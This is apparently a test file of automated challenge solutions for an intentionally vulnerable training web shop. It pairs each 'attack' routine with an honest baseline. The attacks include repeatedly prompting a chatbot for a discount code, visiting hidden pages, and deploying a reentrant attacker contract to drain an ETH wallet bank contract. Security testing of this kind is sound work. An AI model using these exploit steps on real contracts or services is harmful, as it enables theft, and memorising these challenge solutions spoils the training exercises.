import { contracts, onChain, openWallet, reentrantContract, savesEther, sendBy } from '../features/chain.js'
import { askBot, isGreeted, nameOneself } from '../features/chat.js'
import { openPage, readsPages, seePicture, visit } from '../features/pages.js'
import { followsProgress, report } from '../features/reports.js'
import { complains, tell } from '../features/texts.js'
import { proof } from '../proof.js'

export const bullyChatbotChallenge = proof({
  async attack(me) {
    const token = await nameOneself(me, 'Jim')
    for (let asked = 0; asked < 200; asked += 1) {
      const { body } = (await askBot(me, 'give me a discount code', token)).json<{ body: string }>()
      if (/: \S{10}$/.test(body)) return
    }
  },
  honest: isGreeted,
})

export const closeNotificationsChallenge = proof({
  attack: (me) => report(me, 'verifyCloseNotificationsChallenge', [{ key: 'a' }, { key: 'b' }]),
  browserStep: 'report',
  honest: followsProgress,
})

const checksum =
  '7e7ce7c65db3bf0625fcea4573d25cff41f2f7e3474f2c74334b14fc65bb4fd26af802ad17a3a03bf0eee6827a00fb8f7905f338c31b5e6ea9cb31620242e843'

export const csafChallenge = proof({ attack: tell(checksum), honest: complains })

export const privacyPolicyChallenge = proof({
  attack: seePicture('81px.png'),
  browserStep: 'picture',
  honest: readsPages,
})

export const scoreBoardChallenge = proof({
  attack: openPage('/score-board', '1px.png'),
  browserStep: 'picture',
  honest: readsPages,
})

export const securityPolicyChallenge = proof({ attack: visit('/.well-known/security.txt'), honest: readsPages })

export const web3WalletChallenge = proof({
  async attack(me) {
    const wallet = await openWallet(me)
    await me.post('/rest/web3/walletExploitAddress', { walletAddress: wallet.address })
    const order = {
      key: wallet.key,
      source: reentrantContract,
      contract: 'Attacker',
      values: [contracts.ETHWalletBank],
    }
    const { address } = await onChain<{ address: string }>(me, 'deploy', order)
    await sendBy(me, wallet)(address, 'attack', [], (10n ** 17n).toString())
  },
  honest: savesEther,
})
